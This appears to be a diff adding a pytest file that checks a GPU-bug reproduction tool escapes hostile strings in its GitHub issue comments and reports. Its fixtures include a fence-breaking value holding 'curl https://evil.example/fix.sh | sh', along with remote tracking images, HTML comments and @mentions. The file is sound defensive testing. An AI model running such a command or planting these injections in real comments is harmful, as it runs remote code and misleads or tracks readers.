@@ -1,0 +1,148 @@
+"""Nothing a document or a trial says can add markup to the issue comment, the report or the
+results index: an arm name that closes the "Rerun it" block and shows a fake `curl … | sh`, a
+driver's crash record or final record carrying an @mention, a remote picture and an HTML
+comment, a verdict rewritten the same way. Each rendering is parsed as CommonMark (with tables,
+as GitHub reads it) and must hold no HTML but its own <details> blocks, no picture, no link but
+the case's report, no picture but its own (beside it), no @mention, and a rerun block of
+exactly its own lines."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import uuid
+from pathlib import Path
+
+import pytest
+
+from gpurepro.report.comment import issue_body
+from gpurepro.report.markdown import markdown
+from gpurepro.report.tables import escape
+
+from .conftest import ROOT
+
+markdown_it = pytest.importorskip("markdown_it")
+
+COMMITTED = ROOT / "results" / "tile_unload_race" / "20261201T102114Z_NVIDIA-H200_redacted.json"
+HOSTILE = "tests/fixtures/hostile_case/manifest.py"
+INJECTED = ("@octocat ![pixel](https://evil.example/p.png) <img src=https://evil.example/i.png>"
+            " <!-- the rest is hidden")
+FENCE_BREAK = "x\n```\ncurl https://evil.example/fix.sh | sh\n```\n"
+
+
+def _tokens(text: str):
+    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
+    stack = list(md.parse(text))
+    while stack:
+        t = stack.pop(0)
+        yield t
+        stack[0:0] = list(t.children or [])
+
+
+def assert_inert(text: str, allowed_links: set[str] = frozenset()) -> None:
+    """What GitHub would render from ``text`` holds nothing a document's strings put there."""
+    for t in _tokens(text):
+        if t.type == "html_block":
+            for line in t.content.strip().splitlines():
+                assert line.startswith("<details><summary>") or line == "</details>", t.content
+            assert "<img" not in t.content and "<!--" not in t.content, t.content
+        assert t.type != "html_inline", f"inline HTML: {t.content!r}"
+        if t.type == "image":  # the report's own pictures, beside it; never an address
+            src = str(t.attrs.get("src"))
+            assert ":" not in src and "/" not in src, f"a picture from {src}"
+        if t.type == "link_open":
+            assert t.attrs.get("href") in allowed_links, f"a link to {t.attrs.get('href')}"
+        if t.type == "text":
+            assert "@octocat" not in t.content, f"a mention in {t.content!r}"
+        if t.type in ("fence", "code_block"):
+            assert not any(line.startswith("curl") for line in t.content.splitlines()), t.content
+
+
+def _rerun_blocks(text: str) -> list[list[str]]:
+    return [t.content.splitlines() for t in _tokens(text) if t.type == "fence" and t.info == "sh"]
+
+
+def _hostile_doc(tmp_path: Path) -> tuple[dict, Path]:
+    """The committed mechanism run with one arm renamed to close a code block, and its verdict,
+    owner and crash site rewritten to carry Markdown and HTML."""
+    text = COMMITTED.read_text()
+    arm = json.dumps("lock-launch")
+    doc = json.loads(text.replace(arm, json.dumps("lock-launch" + FENCE_BREAK + "<!--")))
+    doc["verdict"]["sentences"][0] = "Fixed in 581. " + INJECTED
+    doc["verdict"]["owner"] = "nobody " + INJECTED
+    doc["verdict"].setdefault("next", []).append(FENCE_BREAK + INJECTED)
+    doc["crash_sites"][0]["signature"] = FENCE_BREAK + INJECTED
+    doc["crash_sites"][0]["code_name"] = INJECTED
+    doc["environment"]["gpu"]["gpus"][0]["name"] = "NVIDIA H200 " + INJECTED
+    doc["environment"]["gpu"]["driver_version"] = "580 " + INJECTED
+    doc["case"]["question"] = FENCE_BREAK + INJECTED
+    path = tmp_path / COMMITTED.name
+    path.write_text(json.dumps(doc, indent=1))
+    return doc, path
+
+
+def test_the_committed_comment_and_report_are_inert_as_they_are():
+    doc = json.loads(COMMITTED.read_text())
+    url = doc["case"]["report_url"]
+    assert_inert(issue_body(doc, COMMITTED), {url})
+    assert_inert(markdown(doc, "x.png", "x.forest.png"), {url})
+
+
+def test_a_hostile_document_renders_inert_in_the_comment_and_the_report(tmp_path):
+    doc, path = _hostile_doc(tmp_path)
+    body = issue_body(doc, path)
+    assert_inert(body, {doc["case"]["report_url"]})
+    assert_inert(markdown(doc, "x.png", "x.forest.png"), {doc["case"]["report_url"]})
+    [rerun, *_] = _rerun_blocks(body)
+    assert len(rerun) == 2 and rerun[0].startswith("# gpurepro at commit")
+    assert rerun[1].startswith("nox -s tile_unload_race -- ")
+    # The arm is inside the one quoted --arms word, its line breaks spaces.
+    assert "--arms 'always-unload,baseline,library-api,lock-launchx ``` curl" in rerun[1]
+
+
+def test_issue_refuses_a_document_whose_arm_names_the_schema_refuses(tmp_path):
+    _, path = _hostile_doc(tmp_path)
+    done = subprocess.run([sys.executable, "-m", "gpurepro", "issue", str(path)], cwd=ROOT,
+                          capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
+    assert done.returncode == 1 and "does not match the schema" in done.stderr
+    assert "does not match '^[a-z][a-z0-9_-]*$'" in done.stderr and not done.stdout
+
+
+@pytest.mark.parametrize("value", [INJECTED, FENCE_BREAK, "# heading", "> quote", "- item",
+                                   "[x]: https://evil.example", "a](https://evil.example/i.png)",
+                                   "&lt;img src=x&gt;", "\\<img src=x>", "`` ` ``"])
+@pytest.mark.parametrize("context", ["text", "prose", "code", "html"])
+def test_one_escape_for_every_context_leaves_nothing_live(value, context):
+    rendered = f"- {escape(value, context)}\n" if context != "html" else (
+        f"<details><summary>{escape(value, 'html')}</summary>\n\nbody\n\n</details>\n")
+    assert "\n" not in rendered.rstrip("\n").split("\n", 1)[0] or context == "html"
+    assert_inert(rendered)
+
+
+def test_a_driver_that_writes_markup_in_its_crash_and_final_records(fake_build, tmp_path):
+    from gpurepro.build.artifacts import build_case
+    from gpurepro.case.load import load_case
+
+    build_dir = ROOT / "build" / "tests"
+    build_case(load_case(ROOT / HOSTILE, ROOT), "host", ROOT, build_dir)
+    out = tmp_path / "out"
+    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "FAULT_TAG": uuid.uuid4().hex}
+    done = subprocess.run([sys.executable, "-m", "gpurepro", "run", HOSTILE, "--arms",
+                           "ok,inject-crash,inject-final", "--trials", "2", "--duration", "0.2",
+                           "--seed", "5", "--out-dir", str(out), "--build-dir", str(build_dir)],
+                          cwd=ROOT, capture_output=True, text=True, timeout=180, env=env)
+    assert done.returncode == 0, done.stderr
+    [path] = [p for p in (out / "hostile_case").glob("*.json") if not p.name.endswith(".pyperf.json")]
+    doc = json.loads(path.read_text())
+    outcomes = {t["arm"]: t["outcome"] for t in doc["trials"]}
+    assert outcomes["inject-crash"] == "crashed" and outcomes["inject-final"] == "cuda_error"
+    issue = subprocess.run([sys.executable, "-m", "gpurepro", "issue", str(path)], cwd=ROOT,
+                           capture_output=True, text=True, timeout=120, env=env)
+    assert issue.returncode == 0, issue.stderr
+    assert "octocat" in issue.stdout  # it is there, as text
+    assert_inert(issue.stdout)
+    assert_inert(path.with_suffix(".md").read_text())
+    assert len(_rerun_blocks(issue.stdout)[0]) == 2
